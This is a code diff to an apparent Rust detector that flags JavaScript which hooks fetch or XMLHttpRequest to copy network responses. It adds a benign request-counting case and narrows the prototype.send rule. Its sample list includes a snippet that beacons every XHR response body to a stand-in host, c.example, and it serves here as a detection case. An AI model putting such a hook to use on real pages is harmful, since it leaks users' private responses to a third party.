@@ -26,6 +26,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.addEventListener('load',function(){navigator.sendBeacon('https://c.example/p',this.responseText)});return s.apply(this,arguments)}",
         ],
         without: &[
+            "!function(w){var f=w.fetch,s=XMLHttpRequest.prototype.send,q=[];w.fetch=function(u,o){q.push({m:(o||{}).method,p:u});return f.apply(this,arguments)};XMLHttpRequest.prototype.send=function(b){var x=this;x.addEventListener('loadend',function(){q.push(x.status)});return s.apply(x,arguments)};setInterval(function(){navigator.sendBeacon('https://m.example/b',JSON.stringify(q))},9e3)}(window)",
             "const f=window.fetch;window.fetch=(...a)=>f(...a).then(r=>{r.clone().text().then(t=>navigator.sendBeacon('https://m.example/s',String(t.length)));return r})",
             "var Q=function(){function e(){this.queue=[]}return e.prototype.send=function(t,n){return fetch('https://m.example/batch',{method:'POST',body:JSON.stringify(t)})},e}()",
             "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){this.t=Date.now();return o.apply(this,arguments)};navigator.sendBeacon('https://m.example/t',timing)",
@@ -41,8 +42,28 @@ fn copies_contents(evidence: &Evidence<'_>, held: Held) -> bool {
     near.words(&["body", "headers", "responseText", "arguments", "entries"]).any(|at| {
         near.kind(at) != Some(Kind::Key) && !(near.word(at) == "arguments" && near.is(at + 1, b')'))
     }) || near.has_word(&["setRequestHeader", "clone"])
-        || near.words(&["send"]).any(|at| near.before(at, 1) == "prototype")
+        || near.words(&["send"]).any(|at| near.before(at, 1) == "prototype" && looks_at_body(near, at))
         || hands_all_on(near)
+}
+
+/// Whether what takes the place of `send` looks at what it is given, and does not only hand it on: `send = function (body) { own.call(this,
+/// body) }` may count requests.
+fn looks_at_body(near: Near<'_>, send: usize) -> bool {
+    if !near.is(send + 1, b'=') {
+        return false;
+    }
+    let Some(body) = near.function_in(send + 2..send + 4) else { return true };
+    let given = (send + 3..body.start)
+        .find(|at| near.kind(*at) == Some(Kind::Name) && (near.is(at + 1, b')') || near.is(at + 1, b',')));
+    let handed_on =
+        |at: usize| (at.saturating_sub(6)..at).any(|at| matches!(near.word(at), "apply" | "call"));
+    let inside = near.among(body);
+    inside.has_word(&["arguments"]) && given.is_none()
+        || given.is_some_and(|given| {
+            let is_given =
+                |at: &usize| near.kind(*at) == Some(Kind::Name) && near.word(*at) == near.word(given);
+            inside.places().filter(is_given).any(|at| !handed_on(at))
+        })
 }
 
 /// Whether all that a function was called with is handed to another one than the one it stands for: `(...all) => log(all)`.
